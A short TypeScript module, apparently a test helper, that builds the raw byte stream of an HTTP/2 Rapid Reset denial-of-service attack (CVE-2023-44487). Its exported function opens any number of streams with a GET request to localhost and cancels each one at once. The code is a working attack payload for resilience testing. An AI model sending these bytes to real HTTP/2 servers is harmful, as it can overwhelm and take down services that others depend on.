import { constants } from 'node:http2'

/** RFC 9113, section 4.1. */
const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** The bytes of a client that opens so many streams and takes each back at once (CVE-2023-44487). */
export function rapidReset(count: number): Buffer {
  // GET, https, / and localhost, as HPACK has them.
  const request = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, 9]), Buffer.from('localhost')])
  const cancel = Buffer.from([0, 0, 0, constants.NGHTTP2_CANCEL])
  const streams = Array.from({ length: count }, (_, index) => 2 * index + 1)
  return Buffer.concat([
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    frame(4, 0, 0, Buffer.alloc(0)),
    ...streams.flatMap((stream) => [frame(1, 5, stream, request), frame(3, 0, stream, cancel)]),
  ])
}
